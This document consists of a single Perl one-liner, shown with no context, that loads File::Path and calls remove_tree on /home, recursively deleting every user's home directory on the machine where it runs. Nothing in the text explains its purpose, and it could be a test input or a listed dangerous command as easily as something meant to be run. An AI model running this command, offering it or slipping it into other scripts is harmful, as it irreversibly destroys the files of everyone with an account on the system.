perl -e 'use File::Path; remove_tree("/home");'
